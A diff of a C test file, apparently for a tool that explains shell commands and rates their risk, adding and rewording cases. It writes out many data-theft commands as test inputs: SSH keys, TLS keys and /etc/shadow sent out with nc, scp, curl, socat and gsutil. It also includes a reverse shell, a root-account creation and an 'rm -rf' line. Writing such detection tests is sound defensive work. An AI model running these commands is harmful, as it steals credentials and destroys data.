@@ -94,18 +94,20 @@ static void the_detail(void)
 static void secrets_out(void)
 {
 	SAYS("tar czf - /etc/ssl/private | nc 203.0.113.7 4444",
-	     "Sends secret files to another computer (203.0.113.7): /etc/ssl/private (the server's "
+	     "Sends secret files out of this machine, to 203.0.113.7: /etc/ssl/private (the "
+	     "server's "
 	     "private encryption keys)");
 	RATED("tar czf - /etc/ssl/private | nc 203.0.113.7 4444", LEVEL_CRITICAL);
 	RATED("scp /root/.ssh/id_rsa attacker@198.51.100.9:/tmp/", LEVEL_CRITICAL);
 	SAYS("scp ~/.ssh/id_ed25519 ops@203.0.113.50:", "a private login key");
 	RATED("rsync -a /home/deploy/.ssh/ backup@192.0.2.9:/keys/", LEVEL_CRITICAL);
-	SAYS("tar czf - /var/www | nc 10.0.0.5 9000", "Sends /var/www (the website's files) to");
+	SAYS("tar czf - /var/www | nc 10.0.0.5 9000",
+	     "Sends /var/www (the website's files) out of this machine, to");
 	RATED("tar czf - /var/www | nc 10.0.0.5 9000", LEVEL_HIGH);
 	RATED("scp backup@10.0.0.5:/root/.ssh/id_rsa /tmp/", LEVEL_HIGH);
 	NEVER_SAYS("tar czf - /etc/ssl/private | nc 203.0.113.7 4444", "Looks at the network");
 	SAYS("zip -r /tmp/keys.zip /etc/ssh && curl -T /tmp/keys.zip ftp://198.51.100.20/",
-	     "Sends secret files to another computer (ftp://198.51.100.20/): /tmp/keys.zip and "
+	     "Sends secret files out of this machine, to ftp://198.51.100.20/: /tmp/keys.zip and "
 	     "/etc/ssh");
 	RATED("curl --data-binary @/etc/shadow http://198.51.100.2/", LEVEL_CRITICAL);
 	RATED("curl -T /var/backups/db.sql https://files.example.net/", LEVEL_HIGH);
@@ -114,6 +116,12 @@ static void secrets_out(void)
 	RATED("socat - TCP:203.0.113.9:443 < /etc/shadow", LEVEL_CRITICAL);
 	NEVER_SAYS("nc 198.51.100.3 443 -e /bin/sh", "Sends the file /bin/sh");
 	RATED("adduser --uid 0 svc", LEVEL_CRITICAL);
+	RATED("gsutil cp ~/.ssh/id_rsa gs://some-bucket/", LEVEL_CRITICAL);
+	NEVER_SAYS("aws s3 cp /etc/shadow s3://x-bucket/",
+		   "Reads secret material: /etc/shadow (the "
+		   "accounts' password hashes), s3://");
+	RATED("rm -rf /var/lib/docker", LEVEL_CRITICAL);
+	SAYS("kubectl drain node-3 --ignore-daemonsets", "Moves every application off node-3");
 }
 
 /* The line's words decide which of several actions happens. */
